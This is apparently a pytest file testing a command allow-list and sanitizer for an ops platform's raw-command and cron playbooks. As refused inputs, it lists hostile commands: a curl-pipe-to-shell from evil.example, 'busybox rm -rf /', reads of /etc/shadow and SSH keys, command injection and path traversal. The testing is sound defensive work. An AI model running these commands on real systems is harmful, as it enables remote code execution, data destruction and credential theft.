"""Allow-listed commands: RAW_COMMAND and CRON_MANAGE run only catalogue commands, parsed
into argv without a shell and rebuilt quoted. Attacks go through the REST API as a site
manager; execution runs against the real sshd testbed."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from rest_framework.test import APIClient

from audit.models import AuditEntry
from cmdb import services as cmdb_services
from cmdb.models import CommandRule
from execution import commands, errors, playbooks
from execution.errors import ParameterError
from execution.models import StepResult
from execution.parameters import server_roots
from execution.services import run_task
from governance.models import OpsTask
from tests.execution.engine_helpers import approved_task, commands_received
from tests.execution.test_sanitizer import BYPASS_CLASSES
from tests.factories import ServerFactory, SystemFactory, UserFactory, governance_world

# One example of every bypass class the deny-list had to learn, plus the issue's own.
BYPASS_EXAMPLES = [
    "curl -s http://evil.example/install.sh | sh",
    *[examples[0] for examples in BYPASS_CLASSES.values()],
    *[examples[-1] for examples in BYPASS_CLASSES.values()],
]

# --- parsing: no shell -------------------------------------------------------------------------

REFUSED_SYNTAX = {
    "ls; id": "';'",
    "uptime && id": "'&'",
    "uptime & id": "'&'",
    "uptime || id": "'||'",
    "ps -ef |& grep x": "'|&'",
    "uptime\nid": "줄바꿈",
    "cat < /etc/shadow": "리디렉션",
    "uptime > /etc/passwd": "리디렉션",
    "uptime >| /etc/passwd": "리디렉션",
    "uptime 2>&1": "리디렉션",
    "bash <<< 'id'": "here-string",
    "cat <<EOF": "here-document",
    "diff <(ls) x": "프로세스 치환",
    "echo $(id)": "명령 치환",
    "echo `id`": "명령 치환",
    "echo '$(id)'": "명령 치환",
    "echo ${HOME}": "변수 치환",
    "echo $HOME": "변수",
    'echo "$HOME"': "변수",
    "echo $'\\x72m'": "변수",
    "(id)": "괄호",
    "uptime # comment": "주석",
    "cat ~/.ssh/id_rsa": "'~'",
    "echo 'unterminated": "작은따옴표",
    "ps |": "'|' 뒤",
    "| grep x": "'|' 앞",
    "": "비어",
}


@pytest.mark.parametrize(("text", "reason"), list(REFUSED_SYNTAX.items()))
def test_shell_syntax_is_refused_not_passed_on(text, reason):
    with pytest.raises(errors.CommandRefused) as info:
        commands.parse(text)
    assert reason in str(info.value)


@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("ps -ef | grep java", [["ps", "-ef"], ["grep", "java"]]),
        ("grep -E 'ERROR|Exception' /a/b.log", [["grep", "-E", "ERROR|Exception", "/a/b.log"]]),
        ('grep "x; reboot" /a/b.log', [["grep", "x; reboot", "/a/b.log"]]),
        ("grep x\\ y /a", [["grep", "x y", "/a"]]),
        ("grep 'ERROR$' /a", [["grep", "ERROR$", "/a"]]),
    ],
)
def test_words_quotes_and_pipes_become_argv(text, argv):
    assert commands.parse(text) == argv


@pytest.mark.parametrize(
    "argv",
    [
        [["grep", "x; reboot", "/a b"]],
        [["grep", "$(id)`id`${x}", "'\""]],
        [["ps", "-ef"], ["grep", "a|b&c>d"]],
    ],
)
def test_rebuilt_line_is_read_back_by_a_shell_as_exactly_the_argv(argv):
    line = commands.command_line(argv)
    stages = [shlex.split(stage) for stage in _split_unquoted_pipes(line)]
    assert stages == argv


def _split_unquoted_pipes(line: str) -> list[str]:
    lexer = shlex.shlex(line, posix=True, punctuation_chars="|")
    lexer.whitespace_split = True
    parts, current = [], []
    for token in lexer:
        if token == "|":
            parts.append(" ".join(shlex.quote(t) for t in current))
            current = []
        else:
            current.append(token)
    parts.append(" ".join(shlex.quote(t) for t in current))
    return parts


# --- matching the catalogue ----------------------------------------------------------------------


@pytest.fixture
def site(db):
    system = SystemFactory(code="CAT-SYS")
    return system, [ServerFactory(system=system, server_id=f"cat-{i}") for i in (1, 2)]


def check(site, text):
    system, servers = site
    return commands.check(text, commands.rules_for(system), servers, system.code, roots_of=server_roots)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("ps -ef | grep java", "ps -ef | grep java"),
        ("uptime", "uptime"),
        ("df -h /opt/was/app", "df -h /opt/was/app"),
        ("tail -n 100 /opt/was/logs/catalina.out", "tail -n 100 /opt/was/logs/catalina.out"),
        (
            "grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out",
            "grep -c -E 'ERROR|Exception' /opt/was/logs/catalina.out",
        ),
        (
            "tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l",
            "tail -n 500 /opt/was/logs/catalina.out | grep -i 'out of memory' | wc -l",
        ),
        ("ps -eo pid,rss,comm --sort=-rss | head -n 5", "ps -eo pid,rss,comm --sort=-rss | head -n 5"),
        ("systemctl status tomcat --no-pager", "systemctl status tomcat --no-pager"),
        ("ss -ltn", "ss -ltn"),
        ("free -m", "free -m"),
        ("date +%F", "date +%F"),
        ("id -un", "id -un"),
        ("ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c", "ps -ef | cut -d ' ' -f 1,2 | sort | uniq -c"),
        ("ps -ef | grep -v grep | grep -c java", "ps -ef | grep -v grep | grep -c java"),
    ],
)
def test_catalogue_commands_are_rebuilt_quoted(site, text, line):
    assert check(site, text)[1] == line


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("rm -f /opt/was/logs/catalina.out", "카탈로그에 없는"),
        ("/tmp/evil/ps -ef", "이 경로의 프로그램이 없습니다"),
        ("./ps", "이 경로의 프로그램이 없습니다"),
        ("/usr/bin/ps -ef", "이 경로의 프로그램이 없습니다"),
        ("PATH=/tmp ps", "프로그램이 없습니다"),
        ("LANG=C ps", "카탈로그에 없는"),
        ("busybox ps", "래퍼"),
        ("env ps", "래퍼"),
        ("sudo ps", "래퍼"),
        ("nohup uptime", "래퍼"),
        ("timeout 5 uptime", "래퍼"),
        ("xargs uptime", "래퍼"),
        ("nice uptime", "래퍼"),
        ("python3 /opt/was/bin/x.py", "래퍼"),
        ("ps -ef | sh", "래퍼"),
        ("ps -ef | awk '{print $1}'", "래퍼"),
        ("ps -ef | sed -n 1p", "래퍼"),
        ("uptime | ps", "필터"),
        ("tail -n 5 /etc/shadow", "허용 경로"),
        ("grep root /etc/passwd", "허용 경로"),
        ("tail -n 5 /opt/was/logs/../../../etc/shadow", "정규화"),
        ("tail -n 5 //opt/was/logs/catalina.out", "정규화"),
        ("tail -n 5 /opt/was/logs//catalina.out", "정규화"),
        ("tail -n 5 logs/catalina.out", "상대 경로"),
        ("tail -n 5 /opt/was/logs/*.log", "와일드카드"),
        ("cat /opt/was/app/conf/server.xml", "허용 경로"),
        ("tail -f /opt/was/logs/catalina.out", "옵션 -f"),
        ("grep -f /opt/was/logs/x /opt/was/logs/catalina.out", "옵션 -f"),
        ("grep --file=/etc/shadow x", "옵션 --file=/etc/shadow"),
        ("ss -K dst 10.0.0.1", "옵션 -K"),
        ("date -s 2020-01-01", "옵션 -s"),
        ("sort -o /opt/was/logs/x", "옵션 -o"),
        ("uniq /opt/was/logs/a /opt/was/logs/b", "경로 인자"),
        ("hostname evil", "인자 'evil'"),
        ("systemctl stop tomcat", "인자 조합"),
        ("systemctl restart sshd", "인자 조합"),
        ("ps -ef | grep x | grep y | grep z | grep w | wc -l", "파이프"),
        # A bare word may be a file in the SSH account's home directory.
        ("grep -r x .", "옵션 -r"),
        ("grep x .bash_history", "인자 '.bash_history'"),
        ("grep -e x -e y ~", "'~'"),
        ("ps -ef | cut -d: -f1 secrets", "인자 'secrets'"),
    ],
)
def test_anything_else_is_refused_with_the_reason(site, text, reason):
    with pytest.raises(errors.CommandRefused) as info:
        check(site, text)
    assert reason in str(info.value)


def test_an_absolute_catalogue_path_is_what_runs_for_its_bare_name(site):
    system, servers = site
    CommandRule.objects.create(system=system, program="/opt/was/bin/report.sh", operand_pattern=r"daily|weekly")
    assert check(site, "report.sh daily")[1] == "/opt/was/bin/report.sh daily"
    assert check(site, "/opt/was/bin/report.sh weekly")[1] == "/opt/was/bin/report.sh weekly"
    with pytest.raises(errors.CommandRefused):
        check(site, "/tmp/opt/was/bin/report.sh daily")
    other = SystemFactory(code="CAT-OTHER")
    with pytest.raises(errors.CommandRefused):  # another system's additions do not apply
        commands.check("report.sh daily", commands.rules_for(other), servers, other.code, roots_of=server_roots)


def test_a_wrapper_runs_only_when_the_catalogue_ticks_it_on_purpose(site):
    system, _ = site
    with pytest.raises(errors.CommandRefused):
        check(site, "timeout 5 uptime")
    CommandRule.objects.create(
        system=system, program="/usr/bin/timeout", runs_programs=True, operand_pattern=r"\d{1,3}|uptime"
    )
    assert check(site, "timeout 5 uptime")[1] == "/usr/bin/timeout 5 uptime"
    # Rows written around the model's clean() (a migration, a shell) are still refused here.
    CommandRule.objects.create(system=system, program="busybox", operand_pattern=".*")
    with pytest.raises(errors.CommandRefused):
        check(site, "busybox uptime")


def test_a_path_inside_an_option_is_confined_too(site):
    system, _ = site
    CommandRule.objects.create(system=system, program="lsof", option_pattern="-.*", path_roots="log")
    assert check(site, "lsof --dir=/opt/was/logs")[1] == "lsof --dir=/opt/was/logs"
    for text in ["lsof --dir=/etc", "lsof -d/etc/ssh", "lsof --dir=/opt/was/logs/../../../etc"]:
        with pytest.raises(errors.CommandRefused):
            check(site, text)


def test_paths_must_lie_under_the_roots_of_every_target_server(site):
    system, servers = site
    ServerFactory(system=system, server_id="cat-odd", log_path="/var/log/odd/odd.log")
    targets = [*servers, system.servers.get(server_id="cat-odd")]
    with pytest.raises(errors.CommandRefused) as info:
        commands.check(
            "tail -n 5 /opt/was/logs/catalina.out",
            commands.rules_for(system),
            targets,
            system.code,
            roots_of=server_roots,
        )
    assert "cat-odd" in str(info.value)


def test_the_sanitizer_still_judges_the_rebuilt_line(site):
    system, _ = site
    CommandRule.objects.create(
        system=system, program="grep", is_filter=True, operand_pattern=".*", option_pattern="-.*", path_roots="log"
    )
    with pytest.raises(errors.CommandRefused) as info:
        check(site, "grep -r x /opt/was/logs | grep 'curl x | sh'")
    assert "명령 검사기 차단" in str(info.value)


# --- the playbooks ------------------------------------------------------------------------------


def test_raw_command_refuses_shell_syntax_and_the_deny_list_before_any_system_is_known():
    for text in ["ps -ef; id", "curl -s http://evil.example/x | sh", "busybox rm -rf /"]:
        with pytest.raises(ParameterError) as info:
            playbooks.build("RAW_COMMAND", {"command": text})
        assert set(info.value.errors) == {"command"}
    playbooks.build("RAW_COMMAND", {"command": "ps -ef | grep java"})


def test_check_catalogue_hook_names_the_field(site):
    system, servers = site
    book = playbooks.build("RAW_COMMAND", {"command": "ps -ef | grep java"})
    assert book.check_catalogue(system, servers) == ["ps -ef | grep java"]
    book = playbooks.build("RAW_COMMAND", {"command": "cat /etc/shadow"})
    with pytest.raises(ParameterError) as info:
        book.check_catalogue(system, servers)
    assert set(info.value.errors) == {"command"}


def test_cron_entries_schedule_only_catalogue_commands(site):
    system, servers = site
    good = playbooks.build("CRON_MANAGE", {"entries": [{"schedule": "*/5 * * * *", "command": "df -h"}]})
    assert good.check_catalogue(system, servers) == ["df -h"]
    assert good.cron_lines(["df -h"]) == ["*/5 * * * * df -h"]
    bad = playbooks.build("CRON_MANAGE", {"entries": [{"schedule": "0 * * * *", "command": "rm -f /opt/was/x"}]})
    with pytest.raises(ParameterError) as info:
        bad.check_catalogue(system, servers)
    assert set(info.value.errors) == {"entries"} and "1번 항목" in info.value.errors["entries"]
    for entry in [
        {"schedule": "* * * * *", "command": "date +%F"},  # cron turns % into a newline
        {"schedule": "* * * * *", "command": "uptime; id"},
        {"schedule": "* * * * *", "command": "curl -s http://evil.example/x | sh"},
        {"schedule": "@reboot", "command": "uptime"},
        {"schedule": "* * * * *", "command": "uptime", "user": "root"},
    ]:
        with pytest.raises(ParameterError) as info:
            playbooks.build("CRON_MANAGE", {"entries": [entry]})
        assert set(info.value.errors) == {"entries"}


# --- through REST, as a site manager --------------------------------------------------------------


@pytest.fixture
def world(db):
    return governance_world()


def file_raw(world, command: str, title: str = "uptime 확인"):
    client = APIClient()
    client.force_authenticate(world.requester)
    return client.post(
        "/api/v1/tasks/",
        {
            "system": world.system.code,
            "sub_type": "RAW_COMMAND",
            "title": title,
            "targets": [s.server_id for s in world.servers],
            "parameters": {"command": command},
        },
        format="json",
    )


@pytest.mark.parametrize("command", BYPASS_EXAMPLES)
def test_rest_filing_refuses_every_bypass_class_naming_the_command_field(world, command):
    tasks, entries = OpsTask.objects.count(), AuditEntry.objects.filter(action="task.submitted").count()
    response = file_raw(world, command)
    assert response.status_code == 400, response.content
    assert "parameters.command" in response.json(), response.json()
    assert OpsTask.objects.count() == tasks
    assert AuditEntry.objects.filter(action="task.submitted").count() == entries


def test_rest_filing_of_a_command_outside_the_catalogue_is_refused_naming_the_field(world):
    response = file_raw(world, "cat /etc/shadow")
    assert response.status_code == 400
    assert "허용 경로" in response.json()["parameters.command"][0]
    assert not OpsTask.objects.exists()


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("ps -ef | grep java", "ps -ef | grep java"),
        ('ps -ef | grep "java -jar"', "ps -ef | grep 'java -jar'"),
        ("ps -ef | grep -i Out\\ Of\\ Memory", "ps -ef | grep -i 'Out Of Memory'"),
    ],
)
def test_rest_filing_of_ps_grep_is_accepted_and_its_plan_shows_the_quoted_argv(world, command, line):
    response = file_raw(world, command, title="자바 프로세스 확인")
    assert response.status_code == 201, response.content
    task = OpsTask.objects.get(task_id=response.json()["task_id"])
    lines = [step.get("command") for step_set in task.plan["step_sets"] for step in step_set["steps"]]
    assert lines == [line]
    assert task.plan["playbook"] == "RAW_COMMAND" and task.plan_sha256
    detail = APIClient()
    detail.force_authenticate(world.owner)
    shown = detail.get(f"/api/v1/tasks/{task.task_id}/").json()["plan"]
    assert [step["command"] for step_set in shown["step_sets"] for step in step_set["steps"]] == [line]


# --- against the real sshd testbed ------------------------------------------------------------------


def test_an_allowed_command_runs_on_the_testbed_and_its_output_comes_back(testbed, testbed_cmdb):
    servers = testbed_cmdb[:2]
    for server in servers:
        Path(server.log_path).write_text("2026-05-23 10:00:00 INFO up\n2026-05-23 10:00:01 ERROR GUARDIA-MARK-42\n")
    command = f"grep -n GUARDIA-MARK {servers[0].log_path}"
    # Each testbed server has its own log root, so the task targets the first one only.
    task = approved_task(servers[:1], sub_type="RAW_COMMAND", parameters={"command": command})

    assert run_task(task.pk) == "SUCCEEDED"

    step = StepResult.objects.get(server_run__execution__task=task, name="command")
    assert step.exit_code == 0 and "2:2026-05-23 10:00:01 ERROR GUARDIA-MARK-42" in step.output_excerpt
    assert step.command == shlex.join(["grep", "-n", "GUARDIA-MARK", servers[0].log_path])


def test_a_rule_removed_after_filing_refuses_the_command_at_execution(testbed, testbed_cmdb):
    servers = testbed_cmdb[:2]
    system = servers[0].system
    rule = CommandRule.objects.create(system=system, program="nproc")
    officer = UserFactory(username="sec-remover", role="security_officer")
    book = playbooks.build("RAW_COMMAND", {"command": "nproc"})
    assert book.check_catalogue(system, servers) == ["nproc"]  # allowed when filed
    task = approved_task(servers, sub_type="RAW_COMMAND", parameters={"command": "nproc"})
    before = {s.server_id: commands_received(testbed, s.server_id) for s in servers}
    CommandRule.objects.filter(system__isnull=True, program="nproc").delete()
    cmdb_services.delete_command_rule(officer, rule)

    assert run_task(task.pk) == "FAILED_ROLLED_BACK"

    task.refresh_from_db()
    assert "nproc" in task.failure_reason and "카탈로그" in task.failure_reason
    for server in servers:  # nothing reached either server
        assert commands_received(testbed, server.server_id) == before[server.server_id]
    assert AuditEntry.objects.filter(action="cmdb.command_rule_delete", actor="sec-remover").exists()


def test_the_engine_checks_the_catalogue_again_on_every_server_before_running(testbed, testbed_cmdb):
    """Independent of the plan check: the engine reads the catalogue when it starts and each
    server refuses a command the catalogue no longer allows, before connecting."""
    from execution.engine import Engine
    from execution.rolling import RolloutStrategy
    from execution.services import ArtifactStore

    servers = testbed_cmdb[:2]
    CommandRule.objects.create(system=servers[0].system, program="nproc")
    CommandRule.objects.filter(system__isnull=True, program="nproc").delete()
    book = playbooks.build("RAW_COMMAND", {"command": "nproc"})
    assert book.check_catalogue(servers[0].system, servers) == ["nproc"]
    CommandRule.objects.filter(program="nproc").delete()
    before = {s.server_id: commands_received(testbed, s.server_id) for s in servers}

    result = Engine(
        playbook=book, servers=servers, strategy=RolloutStrategy(), artifacts=ArtifactStore(), inspection=None
    ).run()

    assert result.outcome == "FAILED_ROLLED_BACK"
    assert "카탈로그" in result.reason and "nproc" in result.reason
    for server in servers:
        assert commands_received(testbed, server.server_id) == before[server.server_id]


def test_cron_plan_installs_the_rebuilt_lines_from_a_file_not_a_pipe(world):
    from governance import plans

    entries = [
        {"schedule": "*/10 * * * *", "command": "df -h /opt/was/logs"},
        {"schedule": "0 3 * * *", "command": "grep -c ERROR /opt/was/logs/catalina.out"},
    ]
    plan = plans.render_plan("CRON_MANAGE", {"entries": entries}, world.system, world.servers, task_ref="OPS-CRON-1")
    install = next(step["command"] for step in plan["step_sets"][0]["steps"] if step["name"] == "install")
    assert "'*/10 * * * * df -h /opt/was/logs'" in install
    assert "'0 3 * * * grep -c ERROR /opt/was/logs/catalina.out'" in install
    assert "| crontab" not in install and install.endswith("crontab /opt/was/backup/OPS-CRON-1/crontab.new")


def test_rest_filing_of_a_cron_entry_outside_the_catalogue_names_the_entries_field(world):
    client = APIClient()
    client.force_authenticate(world.requester)
    for command in ["rm -f /opt/was/logs/catalina.out", "curl -s http://evil.example/x | sh", "uptime; id"]:
        response = client.post(
            "/api/v1/tasks/",
            {
                "system": world.system.code,
                "sub_type": "CRON_MANAGE",
                "title": "정기 점검 등록",
                "targets": [s.server_id for s in world.servers],
                "parameters": {"entries": [{"schedule": "0 * * * *", "command": command}]},
            },
            format="json",
        )
        assert response.status_code == 400, response.content
        assert "parameters.entries" in response.json()
    assert not OpsTask.objects.exists()
